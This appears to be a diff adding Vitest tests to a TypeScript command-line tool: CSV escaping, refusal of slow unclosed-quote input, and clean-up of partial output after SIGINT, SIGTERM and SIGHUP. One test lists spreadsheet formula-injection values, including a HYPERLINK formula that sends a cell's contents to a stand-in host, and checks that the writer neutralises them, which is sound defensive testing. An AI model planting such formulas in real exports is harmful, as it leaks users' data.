@@ -1,4 +1,6 @@
-import { existsSync, readFileSync, statSync } from 'node:fs';
+import { spawn } from 'node:child_process';
+import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
+import { resolve } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { CsvProblem, csvLine, readCsv } from '../../../src/cli/csv.ts';
 import { folder } from '../config/settings.ts';
@@ -54,6 +56,64 @@ describe('comma-separated values', () => {
   it('are written so that they read back as they were', async () => {
     const cells = ['plain', 'a,b', 'a;b', 'say "x"', 'l1\nl2', ''];
     expect(await parse(csvLine(cells))).toEqual([[1, cells]]);
+  });
+
+  it.each(['=HYPERLINK("http://x.example/?"&A1)', '+1', '-2+3', '@SUM(1)', '\t=1', '\n=1'])(
+    'are never written so that a spreadsheet carries %j out, unless they are wanted raw',
+    async (cell) => {
+      expect(await parse(csvLine([cell, 'a=1']))).toEqual([[1, [`'${cell}`, 'a=1']]]);
+      expect(csvLine([cell], true)).not.toContain("'");
+    },
+  );
+
+  it.each(['\n', '""""\n', 'x'])(
+    'are refused in less than a second when a quote stays open for a megabyte of %j',
+    async (unit) => {
+      const startMs = performance.now();
+      const text = `id,x\n"${unit.repeat(1_000_000 / unit.length)}`;
+      await expect(parse(text, 65_536)).rejects.toBeInstanceOf(CsvProblem);
+      expect(performance.now() - startMs).toBeLessThan(1_000);
+    },
+  );
+
+  it('are read in a time that grows with their length alone', async () => {
+    const text = `id,x\n${`"${'""\n'.repeat(30_000)}",1\n`.repeat(10)}`;
+    const startMs = performance.now();
+    expect(await parse(text, 65_536)).toHaveLength(11);
+    expect(performance.now() - startMs).toBeLessThan(2_000);
+  });
+});
+
+describe('a report with references that is cut off', () => {
+  const source = resolve(import.meta.dirname, '../../../src/cli/identifier-files.ts');
+
+  it.each([
+    ['SIGINT', 130],
+    ['SIGTERM', 143],
+    ['SIGHUP', 129],
+  ] as const)('by %s leaves nothing behind', async (signal, code) => {
+    using place = folder();
+    place.write('report.csv', `customer_id\n${'c1abc\n'.repeat(500)}`);
+    const out = `${place.path}/out.csv`;
+    const asked = { file: `${place.path}/report.csv`, column: 'customer_id', out, reason: 'x', raw: false };
+    const program = `import { existsSync } from 'node:fs';
+      import { traceFile } from ${JSON.stringify(source)};
+      let calls = 0;
+      const call = async () => {
+        if (++calls === 2) {
+          console.log('half', existsSync(${JSON.stringify(`${out}.part`)}));
+          process.kill(process.pid, ${JSON.stringify(signal)});
+          await new Promise((done) => setTimeout(done, 10_000));
+        }
+        return { items: [{ customer_id: 'c1abc', state: 'living', reference: '4711' }] };
+      };
+      await traceFile({ call }, ${JSON.stringify(asked)});`;
+    const child = spawn(process.execPath, ['--input-type=module-typescript', '--eval', program]);
+    let output = '';
+    child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
+    const ended = await new Promise<number | null>((done) => child.on('close', done));
+    expect([output.trim(), ended]).toEqual(['half true', code]);
+    expect(readdirSync(place.path)).toEqual(['report.csv']);
   });
 });
 
@@ -138,6 +198,7 @@ describe('identifiers from the command line', () => {
     place.write('bad.csv', text);
     const { code } = await run('trace', '--file', 'bad.csv', '--out', 'bad-out.csv', ...why);
     expect([code, existsSync(`${place.path}/bad-out.csv`)]).toEqual([2, false]);
+    expect(existsSync(`${place.path}/bad-out.csv.part`)).toBe(false);
   });
 
   it('need a reason', async () => {
